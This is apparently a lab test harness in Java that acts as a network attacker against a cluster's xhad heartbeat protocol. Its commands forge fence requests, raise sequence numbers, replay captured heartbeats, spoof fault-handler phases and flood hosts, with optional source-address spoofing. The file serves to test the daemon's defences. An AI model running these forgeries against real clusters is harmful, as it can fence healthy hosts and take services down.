package org.xcp.clusterstack.tests.attack;

import java.io.IOException;
import java.net.InetAddress;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import org.xcp.clusterstack.api.HostSet;
import org.xcp.clusterstack.api.config.DaemonConfig;
import org.xcp.clusterstack.api.config.DaemonConfigReader;
import org.xcp.clusterstack.api.statefile.SmPhase;
import org.xcp.clusterstack.xhad.heartbeat.HeartbeatPacketBuilder;

/**
 * An attacker on the pool's network segment, for {@code tests/lab/attack}: forges xhad heartbeats (spec §6) with
 * the project's own codec and sends them blind from its own address or, with {@code --spoof}, from the claimed
 * host's address and port. Prints one JSON object: what it sent.
 *
 * <pre>
 * Attacker show           --conf F --pcap P                   the capture's heartbeats by sender and destination
 * Attacker fence-request  --conf F [--pcap P] [--to 0,1] [--as S] [--copies N]
 *                                 a fence_request from S (default: the next host) excluding each target (A1)
 * Attacker raise-sequence --conf F --pcap P --victim V [--by N] [--copies N]
 *                                 V's newest captured heartbeat to each host, its sequence raised by N (A2)
 * Attacker replay         --conf F --pcap P --host D --duration S [--exact] [--rewrite]
 *                                 D's captured heartbeats again: as they were, and/or with rising sequences (A3)
 * Attacker hears-nobody   --conf F [--pcap P] --victim V --duration S   V's heartbeats with hbdomain {V} (A4)
 * Attacker fh-phase       --conf F [--pcap P] --victim V --duration S [--phase FHREADY,FH1...]   V in a
 *                                 fault-handler phase it is not in (A5)
 * Attacker flood          --conf F [--pcap P] --rate R --real-share X --duration S   R a second to each host (A6)
 * common: --spoof | --source ADDR; --format plain|keyed|auto (auto: keyed when the capture is); --seed N;
 *         --to LIST (targets, default every other host); --interval-ms N (repeating attacks, default t1 / 4)
 * </pre>
 */
public final class Attacker {
    private final Options o;
    private final DaemonConfig config;
    private final Captured captured;
    private final Forge forge;
    private final Sender sender;
    private final Random random;
    private final Map<String, Object> result = new LinkedHashMap<>();

    private Attacker(Options o) throws IOException {
        this.o = o;
        this.config = DaemonConfigReader.read(Path.of(o.require("conf")));
        this.captured = o.get("pcap").isPresent() ? Captured.read(Path.of(o.require("pcap")), config) : Captured.none();
        this.random = new Random(o.integer("seed", (int) System.nanoTime()));
        String format = o.get("format").orElse("auto");
        boolean keyed = format.equals("keyed") || format.equals("auto") && captured.lastKeyed().isPresent();
        this.forge = new Forge(config, captured, keyed, random, o.integer("lead", 3));
        this.sender = new Sender(config, o.flag("spoof"), InetAddress.getByName(o.get("source").orElse("0.0.0.0")));
        result.put("command", o.command());
        result.put("source", sender.source());
        result.put("format", keyed ? "keyed" : "plain");
    }

    public static void main(String[] args) {
        try {
            Options o = Options.parse(args);
            Attacker a = new Attacker(o);
            try {
                a.run();
            } finally {
                a.sender.close();
            }
            System.out.println(Json.object(a.result));
        } catch (IOException | RuntimeException e) {
            System.err.println("attacker: " + e.getMessage());
            System.exit(2);
        }
    }

    private void run() {
        long start = System.nanoTime();
        switch (o.command()) {
            case "show" -> show();
            case "fence-request" -> fenceRequest();
            case "raise-sequence" -> raiseSequence();
            case "replay" -> replay();
            case "hears-nobody" -> repeat(o.integer("victim", 0), (v, t, k) -> forge.base(v, t)
                    .hbdomain(HostSet.of(v)));
            case "fh-phase" -> fhPhase();
            case "flood" -> flood();
            default -> throw new IllegalArgumentException("unknown command " + o.command());
        }
        result.put("sent", sender.sent());
        result.put("errors", sender.errors());
        if (sender.errors() > 0) {
            result.put("first_error", sender.firstError());
        }
        result.put("seconds", round((System.nanoTime() - start) / 1e9));
    }

    private void show() {
        Map<String, Object> pairs = new LinkedHashMap<>();
        for (int s = 0; s < config.hostCount(); s++) {
            for (int t = 0; t < config.hostCount(); t++) {
                List<Captured.Heartbeat> h = captured.between(s, t);
                if (!h.isEmpty()) {
                    Captured.Heartbeat last = h.get(h.size() - 1);
                    pairs.put(s + "->" + t, Json.raw(Json.object(Map.of("count", h.size(), "first_sequence",
                            h.get(0).sequence(), "last_sequence", last.sequence(), "keyed", last.keyed(),
                            "key_id", last.keyed() ? Wire.hex(Wire.trailer(last.datagram()).keyId()) : ""))));
                }
            }
        }
        result.put("heartbeats", captured.all().size());
        result.put("pairs", Json.raw(Json.object(pairs)));
    }

    /** A1: each target gets a fence_request from a live member whose proposed liveset leaves the target out. */
    private void fenceRequest() {
        List<Integer> targets = o.hosts("to", config.hostCount(), -1);
        for (int t : targets) {
            int s = o.integer("as", (t + 1) % config.hostCount());
            byte[] d = forge.datagram(forge.base(s, t).sequence(forge.sequence(s, t, 0))
                    .currentLiveset(forge.all()).proposedLiveset(forge.all().without(t))
                    .smPhase(SmPhase.FH4.code()).fenceRequest(true).build(), t);
            for (int c = 0; c < o.integer("copies", 1); c++) {
                sender.send(d, s, t);
            }
        }
        result.put("targets", targets);
    }

    /** A2: the victim's newest captured heartbeat to each host, copied with a raised sequence. */
    private void raiseSequence() {
        int v = o.integer("victim", 0);
        for (int t : o.hosts("to", config.hostCount(), v)) {
            Captured.Heartbeat h = captured.last(v, t).orElseThrow(() -> new IllegalArgumentException(
                    "no heartbeat of host " + v + " to host " + t + " in the capture"));
            byte[] d = Wire.withSequence(h.datagram(), h.sequence() + o.integer("by", 1000));
            for (int c = 0; c < o.integer("copies", 2); c++) {
                sender.send(d, v, t);
            }
            result.put("raised_from_" + t, h.sequence());
        }
    }

    /**
     * A3: the dead host's captured heartbeats to each host, one each heartbeat interval (t1): as they were
     * ({@code --exact}, in capture order) and with rising sequences past the last one seen ({@code --rewrite}).
     */
    private void replay() {
        int d = o.integer("host", 0);
        boolean exact = o.flag("exact") || !o.flag("rewrite");
        boolean rewrite = o.flag("rewrite") || !o.flag("exact");
        List<Integer> targets = o.hosts("to", config.hostCount(), d);
        Map<Integer, List<Captured.Heartbeat>> seen = new LinkedHashMap<>();
        for (int t : targets) {
            seen.put(t, captured.between(d, t));
            if (seen.get(t).isEmpty()) {
                throw new IllegalArgumentException("no heartbeat of host " + d + " to host " + t + " in the capture");
            }
        }
        long interval = o.integer("interval-ms", (int) config.parameters().heartbeatInterval().toMillis());
        long end = System.nanoTime() + TimeUnit.MILLISECONDS.toNanos((long) (o.decimal("duration", 10) * 1000));
        long exactSent = 0;
        long rewritten = 0;
        for (int k = 0; System.nanoTime() < end; k++) {
            for (int t : targets) {
                List<Captured.Heartbeat> all = seen.get(t);
                Captured.Heartbeat last = all.get(all.size() - 1);
                if (exact) {
                    sender.send(all.get(k % all.size()).datagram(), d, t);
                    exactSent++;
                }
                if (rewrite) {
                    sender.send(Wire.withSequence(last.datagram(), last.sequence() + 1 + k), d, t);
                    rewritten++;
                }
            }
            sleep(interval);
        }
        result.put("exact", exactSent);
        result.put("rewritten", rewritten);
    }

    private void fhPhase() {
        List<SmPhase> phases = new ArrayList<>();
        for (String name : o.get("phase").orElse("FHREADY").split(",")) {
            phases.add(SmPhase.valueOf(name.trim().toUpperCase(Locale.ROOT)));
        }
        int v = o.integer("victim", 0);
        int per = (int) Math.max(1, o.decimal("duration", 10) * 1000 / interval() / phases.size());
        repeat(v, (s, t, k) -> forge.base(s, t).smPhase(phases.get(Math.min(k / per, phases.size() - 1)).code()));
        result.put("phases", phases.stream().map(Enum::name).toList());
    }

    /** The k-th forgery of host v's heartbeat to host t. */
    private interface Forgery {
        HeartbeatPacketBuilder make(int v, int t, int k);
    }

    /** A4, A5: host v's heartbeat, changed, to every other host every interval, each newer than v's own. */
    private void repeat(int v, Forgery forgery) {
        long end = System.nanoTime() + TimeUnit.MILLISECONDS.toNanos((long) (o.decimal("duration", 10) * 1000));
        for (int k = 0; System.nanoTime() < end; k++) {
            for (int t : o.hosts("to", config.hostCount(), v)) {
                sender.send(forge.datagram(forgery.make(v, t, k).sequence(forge.sequence(v, t, k)).build(), t), v, t);
            }
            sleep(interval());
        }
        result.put("victim", v);
    }

    private void flood() {
        List<Integer> targets = o.hosts("to", config.hostCount(), -1);
        Flood.Result r = Flood.run(forge, sender, targets, config.hostCount(), o.decimal("rate", 10_000),
                o.decimal("real-share", 0.05), o.decimal("duration", 10), random);
        result.put("targets", targets);
        result.put("real", r.real());
        result.put("rate_per_target", round(r.perTargetRate(targets.size())));
    }

    private long interval() {
        return o.integer("interval-ms", (int) config.parameters().heartbeatInterval().toMillis() / 4);
    }

    private static void sleep(long millis) {
        try {
            Thread.sleep(millis);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException("interrupted");
        }
    }

    private static double round(double x) {
        return Math.round(x * 100) / 100.0;
    }
}
